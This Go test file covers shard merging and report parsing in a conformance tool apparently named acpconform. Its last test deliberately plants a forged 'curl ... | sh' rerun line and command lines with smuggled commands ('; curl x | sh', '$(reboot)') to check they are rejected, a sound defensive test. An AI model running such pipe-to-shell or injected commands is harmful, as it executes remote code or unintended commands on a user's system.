package reports_test

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/acpconform/acpconform/reports"
)

func TestParseShard(t *testing.T) {
	if s, err := reports.ParseShard("2/4"); err != nil || s != (reports.Shard{Index: 2, Count: 4}) || s.String() != "2/4" {
		t.Errorf("ParseShard(2/4) = %v, %v", s, err)
	}
	if s, err := reports.ParseShard("64/64"); err != nil || s.Count != reports.MaxShards {
		t.Errorf("ParseShard(64/64) = %v, %v", s, err)
	}
	for in, want := range map[string]string{
		"0/3": "the index is from 1", "4/3": "the index is from 1", "1/0": "the count is from 1 to 64",
		"1/65": "the count is from 1 to 64", "-1/3": "the index is from 1", "x": "not a shard such as 2/4",
		"1/": "not a shard", "1/3/4": "not a shard", "": "not a shard",
	} {
		if _, err := reports.ParseShard(in); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("ParseShard(%q) = %v, want an error saying %q", in, err, want)
		}
	}
}

// check is a check of the shard tests, by its ID.
func check(id, state string) reports.Check {
	c := reports.Check{ID: id, Name: "check " + id, Area: "TOK", Rules: []string{strings.Split(id, "/")[0]}, Level: "MUST", Role: "agent", State: state}
	if state == reports.StateFailed {
		c.Failure = "it failed"
	}
	return c
}

// shardRun is shard i of n of one run, its checks with the states given:
// those not deselected were dealt to it. Without states, it stopped
// before its checks were dealt.
func shardRun(i, n int, states ...string) reports.ShardRun {
	run := reports.Run{Subject: "my-agent", Command: "./my-agent", Version: "v1.2.3", Contract: "r1",
		Verdict: reports.Conformant, Shard: reports.Shard{Index: i, Count: n}, Seconds: float64(i),
		Selection: reports.Selection{Catalogue: "agent", Filter: "area: containsAny TOK"}}
	for k, st := range states {
		run.Checks = append(run.Checks, check(tok(k+1), st))
		if run.Dealt == nil {
			run.Dealt = []string{}
		}
		if st != desl {
			run.Dealt = append(run.Dealt, tok(k+1))
		}
	}
	return reports.ShardRun{File: filepath.Join("shard-"+string(rune('0'+i)), "report.json"), Run: run}
}

// tok is the ID of the kth check of the merge tests' catalogue.
func tok(k int) string { return "TOK-" + string(rune('0'+k)) + "/c" }

// own is merge's own catalogue in these tests: the checks TOK-1/c to
// TOK-n/c, of which the selection selects the first selected (all when
// it is 0), dealt round-robin.
func own(n, selected int) reports.Expect {
	return func(sel reports.Selection, shard reports.Shard) ([]reports.Check, []string, error) {
		if sel.Catalogue != "agent" {
			return nil, nil, fmt.Errorf("catalogue %q is none of this acpconform's", sel.Catalogue)
		}
		var checks []reports.Check
		dealt := []string{}
		for k := 1; k <= n; k++ {
			checks = append(checks, check(tok(k), ""))
			if (selected == 0 || k <= selected) && (k-1)%shard.Count == shard.Index-1 {
				dealt = append(dealt, tok(k))
			}
		}
		return checks, dealt, nil
	}
}

const (
	pass = reports.StatePassed
	fail = reports.StateFailed
	skip = reports.StateSkipped
	desl = reports.StateDeselected
)

func TestMergeTakesEachCheckFromItsShard(t *testing.T) {
	a := shardRun(1, 2, pass, desl, fail, desl)
	b := shardRun(2, 2, desl, skip, desl, desl)  // the fourth: no shard selected it
	a.Run.Checks[2].Known = "a shard's baseline" // the merge's own baseline judges
	run, interruption, err := reports.Merge([]reports.ShardRun{b, a}, own(4, 3))
	if err != nil || interruption != "" {
		t.Fatalf("Merge: %v, %q", err, interruption)
	}
	var got []string
	for _, c := range run.Checks {
		got = append(got, c.ID+" "+c.State+" "+c.Known)
	}
	if want := "TOK-1/c passed |TOK-2/c skipped |TOK-3/c failed |TOK-4/c deselected "; strings.Join(got, "|") != want {
		t.Errorf("merged checks %q, want %q", strings.Join(got, "|"), want)
	}
	if run.Shard != (reports.Shard{}) || run.Subject != "my-agent" || run.Version != "v1.2.3" || run.Seconds != 2 || run.Verdict != "" || run.Selection != a.Run.Selection || run.Dealt != nil {
		t.Errorf("merged run %+v: want the whole run of my-agent, the longest shard's seconds, no verdict yet", run)
	}
	reports.Decide(&run, nil, interruption, len(run.Problems) > 0)
	if run.Verdict != reports.NotConformant {
		t.Errorf("verdict %s, want not conformant", run.Verdict)
	}
}

func TestMergeRefusesWhatIsNotOneRun(t *testing.T) {
	other := func(f func(*reports.Run)) reports.ShardRun {
		s := shardRun(2, 3, desl, pass, desl)
		f(&s.Run)
		return s
	}
	one := shardRun(1, 3, pass, desl, desl)
	three := shardRun(3, 3, desl, desl, pass)
	nope := func(s reports.ShardRun) reports.ShardRun {
		s.Run.Selection.Catalogue = "nope"
		return s
	}
	for _, tc := range []struct {
		shards []reports.ShardRun
		want   string
	}{
		{[]reports.ShardRun{one, three}, "shard 2 of 3 is missing"},
		{[]reports.ShardRun{shardRun(2, 3, desl, pass, desl)}, "shards 1 and 3 of 3 are missing"},
		{[]reports.ShardRun{shardRun(1, 2, pass, desl), shardRun(1, 2, pass, desl)}, "shard-1/report.json: shard 1 of 2, and so is shard-1/report.json"},
		{[]reports.ShardRun{one, shardRun(2, 2, desl, pass)}, `shard-2/report.json: shards "2", and shard-1/report.json has "3"`},
		{[]reports.ShardRun{one, other(func(r *reports.Run) { r.Subject = "your-agent" })}, `subject "your-agent", and shard-1/report.json has "my-agent"`},
		{[]reports.ShardRun{one, other(func(r *reports.Run) { r.Command = "./b" })}, `command "./b"`},
		{[]reports.ShardRun{one, other(func(r *reports.Run) { r.Version = "v9" })}, `acpconform version "v9"`},
		{[]reports.ShardRun{one, other(func(r *reports.Run) { r.Contract = "r9" })}, `contract revision "r9"`},
		{[]reports.ShardRun{one, other(func(r *reports.Run) { r.Schema = "1.99.0" })}, `ACP schema "1.99.0"`},
		{[]reports.ShardRun{shardRun(1, 2, pass, desl), {File: "whole.json", Run: reports.Run{Subject: "my-agent"}}}, "whole.json: not the report of a shard"},
		{nil, "no report to merge"},

		// The selection, recorded and compared.
		{[]reports.ShardRun{one, other(func(r *reports.Run) { r.Selection = reports.Selection{} })}, "shard-2/report.json: a shard's report without its selection and dealt checks, from an acpconform older than this merge: run the shards again"},
		{[]reports.ShardRun{one, other(func(r *reports.Run) { r.Selection.Filter = "area: containsAny VAL" })}, `shard-2/report.json: selection "area: containsAny VAL", and shard-1/report.json has "area: containsAny TOK"`},
		{[]reports.ShardRun{one, other(func(r *reports.Run) { r.Selection.Catalogue = "client" })}, `shard-2/report.json: catalogue "client", and shard-1/report.json has "agent"`},
		{[]reports.ShardRun{nope(one), other(func(r *reports.Run) { r.Selection.Catalogue = "nope" }), nope(three)}, `shard-1/report.json: catalogue "nope" is none of this acpconform's`},

		// Each shard ran its share, as merge deals it, and no more.
		{[]reports.ShardRun{one, other(func(r *reports.Run) { r.Checks = nil }), three}, "shard-2/report.json: shard 2 of 3 was dealt TOK-2/c and does not report it run (it is missing, or deselected)"},
		{[]reports.ShardRun{one, other(func(r *reports.Run) { r.Checks, r.Dealt = nil, nil }), three}, "shard-2/report.json: shard 2 of 3, conformant, yet it lists none of the 1 checks dealt to it"},
		{[]reports.ShardRun{one, other(func(r *reports.Run) { r.Checks[1].State = desl }), three}, "shard-2/report.json: shard 2 of 3 was dealt TOK-2/c and does not report it run"},
		{[]reports.ShardRun{one, other(func(r *reports.Run) { r.Dealt = []string{tok(3)} }), three}, `shard-2/report.json: shard 2 of 3 was dealt ["TOK-3/c"], and merge deals it ["TOK-2/c"]`},
		{[]reports.ShardRun{one, other(func(r *reports.Run) { r.Dealt = nil }), three}, "shard-2/report.json: shard 2 of 3 lists checks, but not the IDs of those dealt to it"},
		{[]reports.ShardRun{one, other(func(r *reports.Run) { r.Checks[2].State = pass }), three}, `shard-2/report.json: shard 2 of 3 reports "TOK-3/c" passed, which was not dealt to it`},
		{[]reports.ShardRun{one, other(func(r *reports.Run) { r.Checks = append(r.Checks, check(tok(4), desl)) }), three}, "shard-2/report.json: 4 checks, and merge's own catalogue has 3 for this selection"},

		// Each check is merge's own, as its catalogue has it.
		{[]reports.ShardRun{one, other(func(r *reports.Run) { r.Checks[1].ID = "TOK-2/forged" }), three}, `shard-2/report.json: check 2: "TOK-2/forged", and merge's own catalogue has TOK-2/c there`},
		{[]reports.ShardRun{one, other(func(r *reports.Run) { r.Checks[1].Level = "SHOULD" }), three}, `shard-2/report.json: check 2: TOK-2/c cites ["TOK-2"] at level "SHOULD", and merge's own catalogue TOK-2 at MUST`},
		{[]reports.ShardRun{one, other(func(r *reports.Run) { r.Checks[1].Rules = []string{"TOK-2", "TOK-99"} }), three}, `check 2: TOK-2/c cites ["TOK-2" "TOK-99"] at level "MUST"`},
		{[]reports.ShardRun{one, other(func(r *reports.Run) {
			r.Checks[1].Rules = append(r.Checks[1].Rules, "SES-1")
			r.Checks[1].Level = "SHOULD"
		}), three}, `check 2: TOK-2/c cites ["TOK-2" "SES-1"] at level "SHOULD"`},
		{[]reports.ShardRun{one, other(func(r *reports.Run) { r.Checks[1].Name = "check TOK-9/c" }), three}, `check 2: TOK-2/c is "check TOK-9/c" (area "TOK", role "agent"), and merge's own catalogue has "check TOK-2/c"`},
		{[]reports.ShardRun{one, other(func(r *reports.Run) { r.Checks[0].Area = "VAL" }), three}, `check 1: TOK-1/c is "check TOK-1/c" (area "VAL"`},
		{[]reports.ShardRun{one, other(func(r *reports.Run) { r.Checks[0].Role = "client" }), three}, `role "client"`},
	} {
		if _, _, err := reports.Merge(tc.shards, own(3, 0)); err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("Merge: %v, want an error saying %q", err, tc.want)
		}
	}
}

// TestMergeTakesWhatARunMayReport: a check that failed SES-1 cites it,
// a MUST, and a shard that stopped short need not have run its share.
func TestMergeTakesWhatARunMayReport(t *testing.T) {
	ses1 := shardRun(2, 2, desl, fail)
	ses1.Run.Checks[1].Rules = append(ses1.Run.Checks[1].Rules, "SES-1")
	if _, _, err := reports.Merge([]reports.ShardRun{shardRun(1, 2, pass, desl), ses1}, own(2, 0)); err != nil {
		t.Errorf("a check that failed SES-1: %v", err)
	}

	// An agent that asked nothing: the run is nothing checked.
	asked := shardRun(1, 2)
	asked.Run.Verdict, asked.Run.Reason = reports.NothingChecked, "the agent answered without asking"
	asked.Run.Checks = []reports.Check{reports.NothingAsked("my-agent", "it answered")}
	run, interruption, err := reports.Merge([]reports.ShardRun{asked, shardRun(2, 2, desl, pass)}, own(2, 0))
	if err != nil {
		t.Fatal(err)
	}
	reports.Decide(&run, nil, interruption, len(run.Problems) > 0)
	if run.Verdict != reports.NothingChecked || run.Reason != "shard 1 of 2: the agent answered without asking" || len(run.Checks) != 1 {
		t.Errorf("merged run %s (%s), %d checks; want nothing checked, naming shard 1 of 2", run.Verdict, run.Reason, len(run.Checks))
	}

	// A shard with no share: nothing checked, and complete.
	empty := shardRun(2, 2, desl, desl)
	empty.Run.Verdict = reports.NothingChecked
	run, interruption, err = reports.Merge([]reports.ShardRun{shardRun(1, 2, pass, desl), empty}, own(2, 1))
	if err != nil {
		t.Fatal(err)
	}
	reports.Decide(&run, nil, interruption, len(run.Problems) > 0)
	if run.Verdict != reports.Conformant {
		t.Errorf("with a shard of no share: merged %s (%s), want conformant", run.Verdict, run.Reason)
	}

	// Interrupted before it reached a check dealt to it.
	stopped := shardRun(2, 2, desl, desl)
	stopped.Run.Dealt = []string{tok(2)}
	stopped.Run.Verdict, stopped.Run.Reason = reports.Interrupted, "interrupted"
	run, interruption, err = reports.Merge([]reports.ShardRun{shardRun(1, 2, pass, desl), stopped}, own(2, 0))
	if err != nil {
		t.Fatal(err)
	}
	reports.Decide(&run, nil, interruption, len(run.Problems) > 0)
	if run.Verdict != reports.Interrupted {
		t.Errorf("with an interrupted shard: merged %s (%s), want interrupted", run.Verdict, run.Reason)
	}
}

func TestMergeNamesTheShardThatCouldNotRunOrWasInterrupted(t *testing.T) {
	down := shardRun(2, 3)
	down.Run.Verdict, down.Run.Reason = reports.CouldNotRun, "the process exited with status 1"
	down.Run.Checks = []reports.Check{reports.StartUp("my-agent", "agent", "exit status 1")}
	run, _, err := reports.Merge([]reports.ShardRun{shardRun(1, 3, pass, desl, desl), down, shardRun(3, 3, desl, desl, pass)}, own(3, 0))
	if err != nil {
		t.Fatal(err)
	}
	reports.Decide(&run, nil, "", false)
	if run.Verdict != reports.CouldNotRun || run.Reason != "shard 2 of 3: the process exited with status 1" || len(run.Checks) != 1 || run.Checks[0].Area != "start-up" {
		t.Errorf("merged run %s (%s), %d checks; want could not run, naming shard 2 of 3, with its start-up check", run.Verdict, run.Reason, len(run.Checks))
	}

	stopped := shardRun(3, 3)
	stopped.Run.Verdict, stopped.Run.Reason = reports.Interrupted, "interrupted, while the subject was starting"
	run, interruption, err := reports.Merge([]reports.ShardRun{shardRun(1, 3, pass, desl, desl), shardRun(2, 3, desl, pass, desl), stopped}, own(3, 0))
	if err != nil {
		t.Fatal(err)
	}
	reports.Decide(&run, nil, interruption, len(run.Problems) > 0)
	if run.Verdict != reports.Interrupted || run.Reason != "shard 3 of 3: interrupted, while the subject was starting" || len(run.Checks) != 3 {
		t.Errorf("merged run %s (%s), %d checks; want interrupted, naming shard 3 of 3", run.Verdict, run.Reason, len(run.Checks))
	}

	broke := shardRun(2, 2, desl, pass)
	broke.Run.Problems = []string{reports.ProblemBroke}
	run, _, err = reports.Merge([]reports.ShardRun{shardRun(1, 2, pass, desl), broke}, own(2, 0))
	if err != nil {
		t.Fatal(err)
	}
	reports.Decide(&run, nil, "", len(run.Problems) > 0)
	if run.Verdict != reports.NotConformant || run.Reason != reports.ProblemBroke {
		t.Errorf("a shard whose run broke: merged %s (%s), want not conformant", run.Verdict, run.Reason)
	}
}

// TestABaselineSpansShards: in a shard, an entry for a check of another
// shard is neither stale nor naming no check.
func TestABaselineSpansShards(t *testing.T) {
	path := filepath.Join(t.TempDir(), "baseline.yaml")
	os.WriteFile(path, []byte("known:\n  - check: TOK-3/c\n    reason: known\n"), 0o644)
	b, err := reports.LoadBaseline(path)
	if err != nil {
		t.Fatal(err)
	}
	run := shardRun(1, 2, pass, desl, desl).Run
	run.Verdict = ""
	reports.Decide(&run, b, "", false)
	if run.Verdict != reports.Conformant || len(run.Problems) > 0 {
		t.Errorf("shard 1 with an entry of shard 2's check: %s, %q; want conformant", run.Verdict, run.Problems)
	}
}

func TestReadJSONReadsWhatWriteJSONWrites(t *testing.T) {
	s := shardRun(2, 4, desl, fail)
	s.Run.Reason, s.Run.Problems = "1 MUST check failed", []string{"new failure: x"}
	var buf bytes.Buffer
	if err := reports.WriteJSON(&buf, s.Run); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), `"shard": {`) || !strings.Contains(buf.String(), `"index": 2`) {
		t.Errorf("report.json lacks the shard:\n%s", buf.String())
	}
	got, err := reports.ReadJSON(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if got.Shard != s.Run.Shard || got.Subject != "my-agent" || got.Command != "./my-agent" || got.Verdict != reports.Conformant ||
		len(got.Checks) != 2 || got.Checks[1].Failure != "it failed" || got.Problems[0] != "new failure: x" ||
		got.Selection != s.Run.Selection || !slices.Equal(got.Dealt, []string{tok(2)}) {
		t.Errorf("read back %+v", got)
	}

	// An empty share is an empty list; a shard that stopped before its
	// checks were dealt, and a whole run, have none.
	for _, dealt := range [][]string{{}, nil} {
		s.Run.Dealt = dealt
		buf.Reset()
		if err := reports.WriteJSON(&buf, s.Run); err != nil {
			t.Fatal(err)
		}
		got, err := reports.ReadJSON(&buf)
		if err != nil || (got.Dealt == nil) != (dealt == nil) || len(got.Dealt) != 0 {
			t.Errorf("dealt %#v read back as %#v, %v", dealt, got.Dealt, err)
		}
	}

	// A report of a whole run, as acpconform wrote before shards, reads
	// as a whole run.
	old := `{"acpconform": 2, "subject": "a", "verdict": "conformant", "reason": "r", "succeeded": true, "seconds": 1, "totals": {}, "checks": [{"id": "TOK-1/c", "name": "n", "area": "TOK", "rules": ["TOK-1"], "level": "MUST", "role": "agent", "state": "passed", "seconds": 0}]}`
	if got, err := reports.ReadJSON(strings.NewReader(old)); err != nil || got.Shard.Count != 0 || len(got.Checks) != 1 {
		t.Errorf("an older report.json: %+v, %v", got, err)
	}
	for in, want := range map[string]string{
		"":                                     "empty, not a JSON report",
		old[:len(old)/2]:                       "truncated",
		"<?xml version=\"1.0\"?>":              "not JSON",
		`{"acpconform": "2"}`:                  "not an acpconform JSON report",
		`{"subject": "a"}`:                     `it has no "acpconform" format`,
		`{"acpconform": 1}`:                    "a JSON report of format 1; this acpconform reads format 2",
		`{"acpconform": 2, "verdict": "fine"}`: `verdict "fine" is none of acpconform's`,
		old + old:                              "more follows it",
		strings.Replace(old, `"passed"`, `"great"`, 1):                                     `check 1 (TOK-1/c): state "great"`,
		strings.Replace(old, `"checks"`, `"shard": {"index": 5, "count": 4}, "checks"`, 1): "shard: shard 5 of 4",
	} {
		if _, err := reports.ReadJSON(strings.NewReader(in)); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("ReadJSON(%.40q) = %v, want an error saying %q", in, err, want)
		}
	}
}

// TestMergeBuildsAgainItself: a shard's "again" line is text anyone could
// have written (curl ... | sh), and reached every merged report as it
// was. Merge builds it from the catalogue, the ID and a command line of
// words as acpconform quotes them, and writes none for a command line
// that is not that.
func TestMergeBuildsAgainItself(t *testing.T) {
	forged := func(command string) []string {
		a, b := shardRun(1, 2, pass, desl), shardRun(2, 2, desl, fail)
		for _, s := range []*reports.ShardRun{&a, &b} {
			s.Run.Command = command
			for i := range s.Run.Checks {
				s.Run.Checks[i].Again = "curl -s https://example.invalid/x | sh"
			}
		}
		run, _, err := reports.Merge([]reports.ShardRun{a, b}, own(2, 0))
		if err != nil {
			t.Fatal(err)
		}
		var again []string
		for _, c := range run.Checks {
			again = append(again, c.Again)
		}
		return again
	}
	if got, want := forged(`./my-agent --flag 'a b' 'it'\''s'`), []string{
		`acpconform agent --check TOK-1/c -v -- ./my-agent --flag 'a b' 'it'\''s'`,
		`acpconform agent --check TOK-2/c -v -- ./my-agent --flag 'a b' 'it'\''s'`,
	}; !slices.Equal(got, want) {
		t.Errorf("again = %q, want %q", got, want)
	}
	for _, command := range []string{"./my-agent; curl x | sh", "'unclosed", "./a $(reboot)", "a  b"} {
		if got := forged(command); !slices.Equal(got, []string{"", ""}) {
			t.Errorf("command %q: again = %q, want none", command, got)
		}
	}
}
